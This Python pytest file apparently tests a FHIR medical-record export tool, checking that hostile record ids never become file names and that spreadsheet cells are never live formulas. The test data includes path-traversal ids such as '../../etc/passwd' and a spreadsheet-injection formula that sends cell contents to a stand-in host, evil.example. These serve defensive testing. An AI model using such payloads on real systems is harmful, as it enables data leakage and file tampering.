"""What a server sends is never the name of a file, and never a formula that a spreadsheet runs."""

import csv
import io
import json
import os
from pathlib import Path
from typing import Any

import pytest
from tests.security.conftest import CONFIG

from dm_fhir.cli.main import call
from dm_fhir.model.spreadsheet_text import is_formula

IDS = (
    "../../etc/passwd",
    "..",
    "/absolute",
    "a/b?c#d",
    "x%2F..%2Fy",
    "C:\\\\evil",
    ".ssh",
    "~root",
    "a\\u0000b",
    "-rf",
    "=1+1",
)
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"see")'
ATC, LOINC = "http://www.whocc.no/atc", "http://loinc.org"


def records(id_: str) -> list[dict[str, Any]]:
    """A patient with an infusion and a laboratory value, called by this id, coded in words that begin like a formula."""
    subject = {"subject": {"reference": f"Patient/{id_}"}}
    coded = {"coding": [{"system": LOINC, "code": "2157-6"}, {"system": FORMULA, "code": "+1", "display": FORMULA}]}
    unknown = {"coding": [{"system": "@x", "code": FORMULA, "display": "-2+3"}], "text": FORMULA}
    return [
        {"resourceType": "Patient", "id": id_, "gender": "female", "birthDate": "1970-01-01"},
        {
            "resourceType": "MedicationAdministration", "id": id_, "status": "completed", **subject,
            "medicationCodeableConcept": {"coding": [{"system": ATC, "code": "L04AG11", "display": FORMULA}]},
            "effectiveDateTime": "2025-03-03T10:00:00+01:00", "dosage": {"dose": {"value": 300, "unit": "mg"}},
        },
        {"resourceType": "Observation", "id": id_, "status": "final", **subject, "code": coded, "effectiveDateTime": "2025-03-01",
         "valueQuantity": {"value": 250, "unit": "=U/L"}},
        {"resourceType": "Observation", "id": f"{id_}2", "status": "final", **subject, "code": unknown,
         "effectiveDateTime": "2025-03-01", "valueString": FORMULA},
    ]  # fmt: skip


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder deep inside another, in which every command that writes has been typed; nothing else lies in either."""
    outer = tmp_path_factory.mktemp("outer")
    folder = outer / "a" / "b" / "study"
    (folder / "keys").mkdir(parents=True)
    (folder / "dm-fhir.toml").write_text(CONFIG, encoding="utf-8")
    (folder / "keys" / "pseudonym.key").write_text("a key", encoding="utf-8")
    lines = [json.dumps(one) for id_ in IDS for one in records(id_)]
    (folder / "records.ndjson").write_text("\n".join(lines), encoding="utf-8")
    before = Path.cwd()
    try:
        os.chdir(folder)
        assert call(["pull", "--from", "records.ndjson"]) in (0, 3)
        for words in (
            ["compute"], ["export", "--identified", "--format", "csv", "-o", "csv"], ["export", "--identified", "-o", "series.json"],
            ["export", "--identified", "--format", "xlsx", "-o", "series.xlsx"],
            ["report", "--identified", "-o", "report"], ["findings", "--csv", "findings.csv"],
            ["map", "check", "--csv", "codes.csv"], ["audit", "--csv", "audit.csv"], ["explain", "Patient/=1+1"],
        ):  # fmt: skip
            assert call(words) in (0, 3), words
        assert call(["audit", "--csv", "audit.csv"]) == 0
    finally:
        os.chdir(before)
    return outer


def test_an_id_is_never_the_name_of_a_file(made: Path) -> None:
    study = made / "a" / "b" / "study"
    outside = [path for path in made.rglob("*") if path.is_file() and study not in path.parents]
    assert outside == []
    names = {path.name for path in study.rglob("*")}
    assert not {
        name for name in names if any(word in name for word in ("passwd", "evil", "absolute", "ssh", "~", "1+1", "-rf"))
    }


def test_no_cell_of_any_table_is_a_formula(made: Path) -> None:
    tables = sorted(made.rglob("*.csv"))
    assert {"findings.csv", "codes.csv", "audit.csv", "patients.csv", "outcomes.csv"} <= {path.name for path in tables}
    neutral = 0
    for path in tables:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            assert not [cell for cell in row if is_formula(cell)], path
            neutral += sum(cell.startswith("'") and is_formula(cell[1:]) for cell in row)
    assert neutral > 5


def test_the_table_of_codes_holds_what_would_have_been_run(made: Path) -> None:
    (path,) = made.rglob("codes.csv")
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8")


def test_no_cell_of_the_workbook_is_a_formula(made: Path) -> None:
    from openpyxl import load_workbook

    (path,) = made.rglob("series.xlsx")
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert any(isinstance(cell.value, str) and is_formula(cell.value) and cell.quotePrefix for cell in cells)
